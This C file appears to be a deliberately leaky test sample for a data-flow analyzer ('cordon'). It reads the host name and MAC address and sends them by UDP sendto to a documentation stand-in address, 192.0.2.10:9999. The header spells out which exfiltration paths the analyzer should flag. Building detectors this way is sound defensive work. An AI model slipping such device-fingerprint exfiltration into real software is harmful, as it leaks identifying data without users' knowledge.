/* fingerprint_udp: sample title (b). LEAKY, device fingerprint.
 *
 * What it does: builds a device fingerprint from the host name
 * (gethostname) and the first non-loopback MAC address (getifaddrs
 * AF_PACKET entries on Linux; GetAdaptersAddresses in the PE build) and
 * sends it in one UDP datagram with sendto to 192.0.2.10:9999 (TEST-NET-1,
 * a documentation address).
 *
 * What cordon must find: two exfiltration paths into sink sendto, from
 * gethostname and from getifaddrs (GetAdaptersAddresses in the PE build),
 * both os/device data, endpoint 192.0.2.10 (unknown vendor): high under
 * zero-trust. gethostname's path has dataflow confidence at -O0.
 *
 * Running it: outside a network namespace that routes 192.0.2.10 the send
 * fails and the title says so ("offline") and still exits 0. The samples'
 * tests run it in an empty namespace with a listener on 192.0.2.10:9999 and
 * check the datagram holds the host name and MAC they set. */
#include "sample_net.h"

#include <stdio.h>
#include <string.h>

#if defined(_WIN32)
#include <iphlpapi.h>
#include <stdlib.h>
#else
#include <ifaddrs.h>
#include <linux/if_packet.h>
#endif

/* Writes the first non-loopback, non-zero MAC as aa:bb:cc:dd:ee:ff, or
 * 00:00:00:00:00:00 when there is none. */
static void first_mac(char* out, size_t size) {
  unsigned char mac[6] = {0};
#if defined(_WIN32)
  ULONG bytes = 16 * 1024;
  IP_ADAPTER_ADDRESSES* list = malloc(bytes);
  if (list != NULL && GetAdaptersAddresses(AF_UNSPEC, 0, NULL, list, &bytes) == NO_ERROR) {
    for (IP_ADAPTER_ADDRESSES* a = list; a != NULL; a = a->Next) {
      if (a->PhysicalAddressLength == 6) {
        memcpy(mac, a->PhysicalAddress, 6);
        break;
      }
    }
  }
  free(list);
#else
  struct ifaddrs* list = NULL;
  if (getifaddrs(&list) == 0) {
    for (struct ifaddrs* ifa = list; ifa != NULL; ifa = ifa->ifa_next) {
      if (ifa->ifa_addr == NULL || ifa->ifa_addr->sa_family != AF_PACKET) continue;
      const struct sockaddr_ll* link = (const struct sockaddr_ll*)(const void*)ifa->ifa_addr;
      static const unsigned char kZero[6] = {0};
      if (link->sll_halen != 6 || memcmp(link->sll_addr, kZero, 6) == 0) continue;
      memcpy(mac, link->sll_addr, 6);
      break;
    }
    freeifaddrs(list);
  }
#endif
  snprintf(out, size, "%02x:%02x:%02x:%02x:%02x:%02x", mac[0], mac[1], mac[2], mac[3], mac[4],
           mac[5]);
}

int main(void) {
  if (sample_net_init() != 0) return 1;
  char host[256] = "";
  if (gethostname(host, sizeof host) != 0) return 1;
  char mac[18];
  first_mac(mac, sizeof mac);

  char payload[320];
  int length = snprintf(payload, sizeof payload, "fp host=%s mac=%s", host, mac);

  sample_socket_t fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd == SAMPLE_BAD_SOCKET) return 1;
  struct sockaddr_in to;
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons(9999);
  inet_pton(AF_INET, "192.0.2.10", &to.sin_addr);
  long sent = (long)sendto(fd, payload, length, 0, (const struct sockaddr*)&to, sizeof to);
  printf("sample: sendto 192.0.2.10:9999 %s\n", sent == length ? "sent" : "failed (offline)");
  sample_close_socket(fd);
  return 0;
}
